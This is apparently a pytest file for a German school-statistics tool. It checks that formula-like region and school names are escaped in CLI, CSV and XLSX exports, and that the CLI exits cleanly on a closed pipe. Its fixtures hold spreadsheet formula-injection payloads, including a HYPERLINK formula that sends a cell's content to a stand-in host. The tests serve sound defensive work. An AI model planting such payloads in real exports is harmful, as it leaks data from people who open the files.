"""Output that must not attack its reader: formula-like names are escaped on every export path, and
the command line ends quietly when its reader stops early.

Names are SYNTHETIC (a school called like a formula, a region renamed in a private store copy).
"""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
import sys
from pathlib import Path

import duckdb
import openpyxl
import pandas as pd
import pytest

import cli
from charts.spreadsheet import formula_safe
from store import build as build_module
from store.results import refresh
from ui import tables

ROOT = Path(__file__).resolve().parents[1]
FORMULA = '=HYPERLINK("https://example.invalid/?"&A1;"klick")'
SCHOOL = "@SUMME(1+1)"


@pytest.fixture
def db(store_db, tmp_path, monkeypatch):
    """A store copy where Kreis 03454 is named like a formula and a school like another one."""
    copy = tmp_path / "store.duckdb"
    shutil.copyfile(store_db, copy)
    monkeypatch.setattr(build_module, "IMPORTS_DIR", tmp_path / "imports")
    own = tmp_path / "schulen.csv"
    own.write_text(
        "schuljahr;region_code;schule;merkmal;anzahl;quelle\n"
        f"2023/24;03453004;{SCHOOL};abgaenge_insgesamt;40;synthetisch\n"
        f"2023/24;03453004;{SCHOOL};abgaenge_ohne_abschluss;6;synthetisch\n",
        encoding="utf-8",
    )
    [outcome] = build_module.import_files(copy, [own], lambda *_: None)
    assert outcome.error is None
    con = duckdb.connect(str(copy))
    con.execute("UPDATE regions SET name = ? WHERE region_code = '03454'", [FORMULA])
    con.execute("UPDATE observations SET region_name = ? WHERE region_code = '03454'", [FORMULA])
    refresh(con, ["ohne_abschluss_anteil"])  # the stored results carry the names, as after an import
    con.close()
    return copy


def read(capsys) -> list[dict]:
    return list(csv.DictReader(io.StringIO(capsys.readouterr().out)))


def test_cli_indicator_escapes_region_and_school_names(db, capsys):
    assert cli.main(["indicator", "ohne_abschluss_anteil", "--db", str(db), "--region", "03454"]) == 0
    assert {row["region_name"] for row in read(capsys)} == {"'" + FORMULA}
    assert cli.main(["indicator", "ohne_abschluss_schule", "--db", str(db), "--region", "03453004"]) == 0
    rows = read(capsys)
    # 6 of 40 leavers of the synthetic school = 15 %; the school is the category, escaped.
    school = next(row for row in rows if row["category"] == "'" + SCHOOL)
    assert float(school["value"]) == pytest.approx(15.0)


def test_cli_export_escapes_names_but_keeps_numbers_and_symbols(db, capsys):
    assert cli.main(["export", "--db", str(db), "--region", "03454", "--table", "21111-02-06-4"]) == 0
    rows = read(capsys)
    assert {row["region_name"] for row in rows} == {"'" + FORMULA}
    assert "-" in {row["raw_symbol"] for row in rows}  # "genau null" keeps its spelling
    assert all(not row["value"].startswith("'") for row in rows)


def test_csv_download_escapes_but_leaves_negative_numbers_alone():
    table = pd.DataFrame({"Region": [FORMULA, "+49 Vorwahl", "-", "Emsland"], "Wert": [-1.5, 2.0, 0.0, 3.0]})
    text = tables.to_csv(table).decode("utf-8-sig")
    lines = text.splitlines()
    assert lines[1] == '"\'=HYPERLINK(""https://example.invalid/?""&A1;""klick"")";-1,5'
    assert lines[2] == "'+49 Vorwahl;2,0" and lines[3] == "-;0,0" and lines[4] == "Emsland;3,0"


def test_xlsx_download_holds_no_formula(tmp_path):
    table = pd.DataFrame({"Region": [FORMULA, "@SUMME(1+1)"], "Wert": [-1.5, 2.0]})
    path = tmp_path / "t.xlsx"
    path.write_bytes(tables.to_xlsx(table))
    sheet = openpyxl.load_workbook(path).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
    assert [sheet["A2"].value, sheet["A3"].value, sheet["B2"].value] == ["'" + FORMULA, "'@SUMME(1+1)", -1.5]


def test_formula_safe_leaves_numeric_columns_and_plain_numbers_as_they_are():
    frame = pd.DataFrame({"a": ["-56", "=1", "\tx", "1e5"], "b": [-1, 2, 3, 4]})
    safe = formula_safe(frame)
    assert safe["a"].tolist() == ["-56", "'=1", "'\tx", "1e5"] and safe["b"].tolist() == [-1, 2, 3, 4]


def test_status_piped_into_a_reader_that_stops_early_ends_without_a_traceback(store_db):
    proc = subprocess.Popen(
        [sys.executable, "cli.py", "status", "--db", str(store_db)],
        cwd=ROOT,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )
    proc.stdout.close()  # like `| head -0`: the reader is gone before the first line is written
    _, err = proc.communicate(timeout=120)
    assert "Traceback" not in err.decode() and "BrokenPipe" not in err.decode()
    assert proc.returncode == 1
